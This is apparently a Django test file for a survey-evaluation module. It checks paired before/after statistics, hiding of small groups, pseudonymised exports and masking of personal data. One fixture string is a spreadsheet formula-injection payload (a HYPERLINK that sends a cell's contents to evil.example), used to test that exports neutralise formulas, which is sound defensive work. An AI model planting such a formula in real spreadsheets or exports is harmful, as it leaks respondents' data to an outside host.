"""Results: paired change with its interval, suppression, the evaluator's view and export,
the report command and the final report's chapter."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from grannar.core.models import AuditEvent
from grannar.evaluation.analysis import paired_change, survey_result, t_critical
from grannar.evaluation.services import response_submit
from tests.evaluation.conftest import invite, open_survey
from tests.factories import sign_in


def test_t_critical_values():
    assert t_critical(1) == 12.706
    assert t_critical(4) == 2.776
    assert t_critical(30) == 2.042
    assert abs(t_critical(60) - 2.000) < 0.001
    assert abs(t_critical(1000) - 1.962) < 0.001


def test_paired_change_by_hand():
    # Differences 1..5: mean 3, sd 1.5811, se 0.7071, t(4) 2.776 → ± 1.963.
    change = paired_change([1, 2, 3, 4, 5])
    assert (change.n, change.mean) == (5, 3.0)
    assert (change.low, change.high) == (1.037, 4.963)
    assert paired_change([1, 1, 1, 1, 1]).low == 1.0


def test_paired_change_hidden_under_five():
    assert paired_change([1, 2, 3, 4]).mean is None


@pytest.fixture
def before_after(world, no_scope, staff, django_capture_on_commit_callbacks):
    """Seven people answer before (2) and after (4, one of them 5); one answers only after."""
    before = open_survey(world, "before", "pseudonymous")
    after = open_survey(world, "after", "pseudonymous")
    people = staff[2:]  # six in Mölndal, two in Partille
    before_tokens = invite(before, people[:7], world, django_capture_on_commit_callbacks)
    after_tokens = invite(after, people, world, django_capture_on_commit_callbacks)
    for token in before_tokens:
        response_submit(token=token, answers={"competence-1": 2, "support": 3})
    for index, token in enumerate(after_tokens):
        response_submit(
            token=token,
            answers={"competence-1": 5 if index == 0 else 4, "learned": f"Lärdom {index}"},
        )
    return {"before": before, "after": after, "people": people}


def test_participant_before_and_after_gives_the_evaluator_the_paired_change(
    before_after, client, world
):
    result = survey_result(before_after["after"])
    competence = next(q for q in result.questions if q.question.code == "competence-1")
    # Pairs: 3, 2, 2, 2, 2, 2, 2 → mean 2.143.
    assert competence.paired.n == 7
    assert competence.paired.mean == 2.143
    assert competence.paired.low < 2.143 < competence.paired.high
    assert result.response_rate == 1.0

    sign_in(client, world["users"]["evaluator"])
    html = client.get(f"/evaluation/{before_after['after'].pk}/results/").content.decode()
    assert "2,143" in html
    for person in before_after["people"]:
        assert person.email not in html
        assert person.last_name not in html
    assert "Lärdom 3" in html  # eight answers: free text is shown


def test_small_groups_are_hidden(world, no_scope, staff, django_capture_on_commit_callbacks):
    survey = open_survey(world, "reaction", "anonymous")
    tokens = invite(survey, staff[:3], world, django_capture_on_commit_callbacks)
    for token in tokens:
        response_submit(token=token, answers={"relevant": 5, "better": "Något privat"})
    result = survey_result(survey)
    relevant = next(q for q in result.questions if q.question.code == "relevant")
    assert relevant.mean is None
    assert {count for _label, count in relevant.distribution} == {"<5"}
    better = next(q for q in result.questions if q.question.code == "better")
    assert better.texts == []


def test_breakdowns_hide_groups_under_five(before_after):
    """Six answers from Mölndal show a mean; two from Partille do not."""
    result = survey_result(before_after["after"], labels={"municipality": {}})
    competence = next(q for q in result.questions if q.question.code == "competence-1")
    rows = sorted(competence.breakdowns["municipality"], key=lambda row: row[1])
    assert [(n, mean is None) for _name, n, mean in rows] == [(2, True), (6, False)]


def test_evaluator_export_is_pseudonymised_and_logged(before_after, client, world):
    sign_in(client, world["users"]["evaluator"])
    response = client.get(f"/evaluation/{before_after['after'].pk}/export.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Svarande"
    assert len(rows) == 9
    for person in before_after["people"]:
        assert person.email not in text
        assert person.last_name not in text
    assert AuditEvent.objects.filter(action="evaluation.answers.exported").count() == 1
    book = client.get(f"/evaluation/{before_after['after'].pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(book.content))["Svar"]
    assert sheet.max_row == 9
    # The same respondent code in before and after: pairs can be made by the evaluator too.
    before = client.get(f"/evaluation/{before_after['before'].pk}/export.csv")
    before_codes = {row[0] for row in csv.reader(io.StringIO(before.content.decode("utf-8-sig")))}
    assert len(before_codes & {row[0] for row in rows[1:]}) == 7


def test_anonymous_export_has_no_codes_to_link(
    world, no_scope, staff, client, django_capture_on_commit_callbacks
):
    survey = open_survey(world, "reaction", "anonymous")
    for token in invite(survey, staff[:5], world, django_capture_on_commit_callbacks):
        response_submit(token=token, answers={"relevant": 4})
    sign_in(client, world["users"]["evaluator"])
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(f"/evaluation/{survey.pk}/export.csv").content.decode("utf-8-sig")
            )
        )
    )
    assert sorted(row[0] for row in rows[1:]) == [f"A{n:05d}" for n in range(1, 6)]


def test_report_evaluation_matches_the_results_page(before_after, client, world, capsys):
    call_command("report", "evaluation", "--programme", world["programme"].code, "--format", "json")
    report = json.loads(capsys.readouterr().out)
    after = next(s for s in report["surveys"] if s["phase"] == "after")
    assert (after["invitations"], after["responses"], after["response_rate"]) == (8, 8, 1.0)
    competence = next(q for q in after["likert"] if q["code"] == "competence-1")
    assert competence["n"] == 8
    assert competence["paired_change"]["n"] == 7
    assert competence["paired_change"]["mean"] == 2.143
    low, high = competence["paired_change"]["ci95"]
    sign_in(client, world["users"]["admin"])
    html = client.get(f"/evaluation/{before_after['after'].pk}/results/").content.decode()
    for value in (competence["mean"], competence["paired_change"]["mean"], low, high):
        assert f"{value:.3f}".replace(".", ",") in html
    before = next(s for s in report["surveys"] if s["phase"] == "before")
    support = next(q for q in before["likert"] if q["code"] == "support")
    assert support == {"code": "support", "n": 7, "mean": 3.0}


def test_final_report_has_an_evaluation_chapter_with_charts(before_after, tmp_path, world):
    output = tmp_path / "f.html"
    call_command(
        "report",
        "final",
        "--programme",
        world["programme"].code,
        "--format",
        "html",
        "--output",
        output,
    )
    page = output.read_text(encoding="utf-8")
    chapter = page.split("<h2>Utvärdering</h2>", 1)[1]
    assert "Kompetens efter utbildningen" in chapter
    assert "<svg" in chapter
    assert "+2,14" in chapter


def _units(world, count, django_capture_on_commit_callbacks):
    """`count` units; unit i has i trained staff besides its manager, whose answer is 1 + i // 5."""
    import datetime as dt

    from tests.factories import make_person, make_workplace
    from tests.reporting.builders import attend, held

    survey = open_survey(world, "organisation", "pseudonymous")
    session = held(world["programme"], on=dt.date(2025, 4, 7))
    managers = []
    for i in range(count):
        workplace = make_workplace(municipality=world["own"])
        for _ in range(i):
            attend(make_person(municipality=world["own"], workplace=workplace), session)
        managers.append(make_person(municipality=world["own"], workplace=workplace))
    tokens = invite(survey, managers, world, django_capture_on_commit_callbacks)
    for i, token in enumerate(tokens):
        response_submit(token=token, answers={"practice": 1 + i // 5, "routines": "yes"})
    return survey


def test_organisational_impact_shows_change_beside_training(
    world, no_scope, django_capture_on_commit_callbacks
):
    from grannar.evaluation.analysis import organisational_impact

    impact = organisational_impact(_units(world, 15, django_capture_on_commit_callbacks))
    assert [row.managers for row in impact.rows] == [5, 5, 5]
    practice = [q.code for q in impact.questions].index("practice")
    assert [row.means[practice] for row in impact.rows] == [1.0, 2.0, 3.0]
    assert [row.participants for row in impact.rows] == [10, 35, 60]


def test_organisational_impact_hides_groups_under_five(
    world, no_scope, django_capture_on_commit_callbacks
):
    from grannar.evaluation.analysis import organisational_impact

    impact = organisational_impact(_units(world, 6, django_capture_on_commit_callbacks))
    assert all(row.managers < 5 for row in impact.rows)
    assert all(mean is None for row in impact.rows for mean in row.means)
    assert {row.participants for row in impact.rows} <= {"<5", 0}


FREE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A2,"Klicka här")',
    "@SUM(A1:A9)",
    "-bra kurs men för kort",
    "Hör av dig till anna.svensson@molndal.se eller 070-123 45 67 om uppföljningen.",
    "Mitt personnummer är 19850101-1234, min kollegas 850101-1234 och 8501611234.",
    "Föreläsaren var mycket bra.",
]


@pytest.fixture
def free_text(world, no_scope, staff, django_capture_on_commit_callbacks):
    """Six anonymous answers: some look like formulas, some carry personal data."""
    survey = open_survey(world, "reaction", "anonymous")
    tokens = invite(survey, staff[:6], world, django_capture_on_commit_callbacks)
    for token, text in zip(tokens, FREE_TEXT, strict=True):
        response_submit(token=token, answers={"relevant": 4, "better": text})
    return survey


def test_export_keeps_free_text_inert_and_masks_personal_data(free_text, client, world):
    sign_in(client, world["users"]["evaluator"])
    text = client.get(f"/evaluation/{free_text.pk}/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    column = rows[0].index("better")
    answers = sorted(row[column] for row in rows[1:])
    assert answers == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?"&A2,"Klicka här")',
            "'@SUM(A1:A9)",
            "'-bra kurs men för kort",
            "Hör av dig till [e-postadress] eller [telefonnummer] om uppföljningen.",
            "Mitt personnummer är [personnummer], min kollegas [personnummer] och [personnummer].",
            "Föreläsaren var mycket bra.",
        ]
    )
    assert {row[rows[0].index("relevant")] for row in rows[1:]} == {"4.0"}

    content = client.get(f"/evaluation/{free_text.pk}/export.xlsx").content
    sheet = load_workbook(io.BytesIO(content))["Svar"]
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("better")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sorted(cell.value for cell in cells) == answers
    assert {row[header.index("relevant")].value for row in sheet.iter_rows(min_row=2)} == {4}
    assert "anna.svensson" not in text
    for number in ("19850101-1234", "850101-1234", "8501611234", "070-123 45 67"):
        assert number not in text


def test_results_page_masks_personal_data_in_free_text(free_text, client, world):
    sign_in(client, world["users"]["evaluator"])
    html = client.get(f"/evaluation/{free_text.pk}/results/").content.decode()
    assert "Hör av dig till [e-postadress] eller [telefonnummer] om uppföljningen." in html
    assert "Mitt personnummer är [personnummer], min kollegas [personnummer] och" in html
    assert "anna.svensson@molndal.se" not in html
    assert "070-123 45 67" not in html
    for number in ("19850101-1234", "850101-1234", "8501611234"):
        assert number not in html
    assert "Föreläsaren var mycket bra." in html


def test_evaluator_workbook_reads_as_names_numbers_and_a_question_list(before_after, client, world):
    evaluator = world["users"]["evaluator"]
    sign_in(client, evaluator)
    survey = before_after["after"]
    response = client.get(f"/evaluation/{survey.pk}/export.xlsx")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="enkatsvar-nya-grannar-')
    assert "filename*=UTF-8''enk%C3%A4tsvar-nya-grannar-" in disposition
    book = load_workbook(io.BytesIO(response.content))
    about = dict(book["Om filen"].iter_rows(min_row=2, values_only=True))
    assert about["Program"] == "Nya GRannar (nya-grannar)"
    assert about["Skapad av"] == evaluator.email
    assert about["Svar"] == 8
    sheet = book["Svar"]
    header = [cell.value for cell in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert {row[header.index("Kommun")] for row in rows} == {"Mölndal", "Partille"}
    assert {row[header.index("Kommunkod")] for row in rows} == {"1481", "1402"}
    assert {row[header.index("Typ")] for row in rows} == {"Kompetens efter"}
    assert {row[header.index("Enkät")] for row in rows} == {survey.title}
    competence = header.index("competence-1") + 1
    cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=competence, max_col=competence)]
    assert {(cell.value, cell.data_type, cell.number_format) for cell in cells} == {
        (4, "n", "#,##0.0"),
        (5, "n", "#,##0.0"),
    }
    questions = dict(book["Frågor"].iter_rows(min_row=2, values_only=True))
    assert "competence-1" in questions
    assert questions["competence-1"]
    for page in book.worksheets:
        assert page.freeze_panes == "A2"
        assert page.auto_filter.ref.startswith("A1:")
        assert page.column_dimensions["A"].width >= 6
